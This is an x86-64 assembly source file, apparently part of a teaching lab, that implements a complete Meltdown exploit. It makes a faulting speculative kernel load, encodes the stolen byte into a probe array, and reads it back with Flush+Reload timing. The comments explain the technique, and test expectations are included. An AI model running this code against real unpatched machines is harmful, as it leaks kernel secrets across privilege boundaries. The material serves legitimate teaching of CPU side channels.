# meltdown_string: read a text of the kernel's, byte by byte
#
# What it teaches: a load that faults has no result, and yet what it read can be used. The core
# checks the rights of a load when it retires it, and executes what comes behind it before that. So
# the next load touches one of 256 pages, chosen by a byte that nobody may read. The fault
# takes everything back but one thing: the line of that page is in the cache now. Which one it is,
# 256 loads and a clock tell (Flush+Reload; Lipp et al., Meltdown, 2018).
#
# Three things make it retry. The forbidden byte must be in the L1 data cache to be forwarded; if it
# is not, the first attempt brings it there, and the second one finds it. What was not forwarded reads
# as zero, so the page of zero is believed only if nothing else ever comes. And another program may
# have run in between.
#
# Try:  cr3 meltdown
#       which puts a secret into the kernel, runs this program with and without page-table isolation,
#       and draws what the clock said. Without a secret in the kernel there is nothing to find.
#
# expect: exit 1
# expect stdout: the kernel tells of no secret

    .equ    PAGE, 4096
    .equ    TRIES, 4                    # for each byte
    .equ    SIGSEGV, 11
    .equ    UC_RIP, 168                 # offset of uc_mcontext.rip in the ucontext

    .section .rodata
address_file:
    .asciz  "/proc/cr3/secret_address"
length_file:
    .asciz  "/proc/cr3/secret_length"
nothing:
    .ascii  "the kernel tells of no secret\n"
    .equ    NOTHING, . - nothing

    .data
action:                                 # struct sigaction, as the kernel wants it
    .quad   handler
    .quad   0x04000004                  # SA_SIGINFO | SA_RESTORER
    .quad   restorer
    .quad   0
    .globl  attempts
attempts:
    .quad   0                           # forbidden loads so far

    .bss
    .balign PAGE
array:                                  # line 2: char array[256 * 4096]
    .skip   256 * PAGE
    .globl  latencies
latencies:                              # line 1: unsigned time[256]
    .skip   256 * 4
    .globl  leaked
leaked:
    .skip   1024
text:
    .skip   32

    .text
handler:                                # (edi = signal, rsi = siginfo_t, rdx = ucontext)
    lea     rax, [rip + reload]         # the load that faulted is not tried again
    mov     [rdx + UC_RIP], rax
    ret
restorer:
    mov     eax, 15                     # rt_sigreturn
    syscall

    .globl  _start
_start:
    mov     edi, SIGSEGV
    lea     rsi, [rip + action]
    xor     edx, edx
    mov     r10d, 8
    mov     eax, 13                     # rt_sigaction
    syscall

    lea     rbx, [rip + array]
    xor     ecx, ecx
promise:                                # every page a frame of its own: all untouched ones share the zero page
    mov     byte ptr [rbx + rcx], 1
    add     ecx, PAGE
    cmp     ecx, 256 * PAGE
    jb      promise
    call    calibrate                   # r15 = cycles between a load from the caches and one from memory

    lea     rdi, [rip + address_file]
    call    read_text
    mov     r8d, 16
    call    parse
    mov     r12, rax                    # where the secret is
    test    rax, rax
    jz      no_secret
    lea     rdi, [rip + length_file]
    call    read_text
    mov     r8d, 10
    call    parse
    mov     ebp, eax                    # how long it is
    xor     r13d, r13d                  # the byte's number

next_byte:
    mov     r14d, TRIES
attempt:
    inc     qword ptr [rip + attempts]
    lea     rdi, [rip + length_file]    # the kernel looks at its secret
    call    read_text

    xor     ecx, ecx                    # line 3: flush_array(array)
flush:
    clflush [rbx + rcx]
    add     ecx, PAGE
    cmp     ecx, 256 * PAGE
    jb      flush
    mfence

    .globl  secret_load
    lea     rcx, [r12 + r13]
    xor     eax, eax
secret_load:
    mov     al, [rcx]                   # line 4: secret = *(char *) kernel address
    shl     rax, 12
    mov     rax, [rbx + rax]            # line 5: touch array[secret << 12]
after:                                  # only a core that executes ahead has ever been here
    ud2

reload:                                 # line 6: for (i = 0; i < 256; ++i)
    xor     r9d, r9d
probe:
    imul    edi, r9d, 167               # in an order that no prefetcher guesses
    add     edi, 13
    and     edi, 255
    mov     esi, edi
    shl     esi, 12
    add     rsi, rbx
    call    time_load                   # line 7: access_and_time(array, time, i)
    lea     rdx, [rip + latencies]
    mov     [rdx + 4*rdi], eax
    inc     r9d
    cmp     r9d, 256
    jb      probe

    lea     rdx, [rip + latencies]      # line 8: secret = find_index_with_min_time(time)
    mov     edi, 1                      # (zero is what a load gets that gets nothing)
    mov     ecx, 2
compare:
    mov     eax, [rdx + 4*rcx]
    cmp     eax, [rdx + 4*rdi]
    cmovb   edi, ecx
    inc     ecx
    cmp     ecx, 256
    jb      compare
    cmp     [rdx + 4*rdi], r15d         # a line that came from memory says nothing
    jb      found
    dec     r14d
    jnz     attempt
    xor     edi, edi
found:
    lea     rdx, [rip + leaked]
    mov     [rdx + r13], dil
    inc     r13d
    cmp     r13d, ebp
    jb      next_byte

    mov     byte ptr [rdx + r13], 10    # newline
    mov     rsi, rdx
    lea     edx, [r13 + 1]
    xor     r8d, r8d
    jmp     finish
no_secret:
    lea     rsi, [rip + nothing]
    mov     edx, offset NOTHING
    mov     r8d, 1
finish:
    mov     edi, 1
    mov     eax, 1                      # write(stdout, text, length)
    syscall
    .globl  end
end:
    mov     edi, r8d
    mov     eax, 60                     # exit
    syscall

# time_load: eax = cycles of a load from rsi. Changes rcx, rdx, r8.
time_load:
    rdtscp                              # waits for the loads before it
    mov     r8d, eax
    mov     cl, [rsi]
    rdtscp
    sub     eax, r8d
    ret

# calibrate: r15d = half way between a load from the caches and one from memory. Changes rax, rcx, rdx, rsi, r8.
calibrate:
    mov     rsi, rbx
    clflush [rsi]
    mfence
    call    time_load
    mov     r15d, eax
    call    time_load
    add     r15d, eax
    shr     r15d, 1
    ret

# read_text: the start of the file whose name is at rdi goes to `text`; what cannot be read is empty.
# Changes rax, rcx, rdx, rsi, rdi, r8, r11.
read_text:
    lea     r8, [rip + text]
    mov     byte ptr [r8], 0
    xor     esi, esi
    mov     eax, 2                      # open(name, O_RDONLY)
    syscall
    test    eax, eax
    js      unreadable
    mov     edi, eax
    mov     rsi, r8
    mov     edx, 32
    xor     eax, eax                    # read
    syscall
    mov     eax, 3                      # close
    syscall
unreadable:
    ret

# parse: rax = the number in `text`, of base r8. Changes rcx, rdx, rsi.
parse:
    lea     rsi, [rip + text]
    xor     eax, eax
digit:
    movzx   ecx, byte ptr [rsi]
    inc     rsi
    sub     ecx, 48                     # "0"
    js      parsed                      # newline or the end
    cmp     ecx, 10
    jb      add_digit
    sub     ecx, 39                     # "a" is 10
add_digit:
    imul    rax, r8
    add     rax, rcx
    jmp     digit
parsed:
    ret
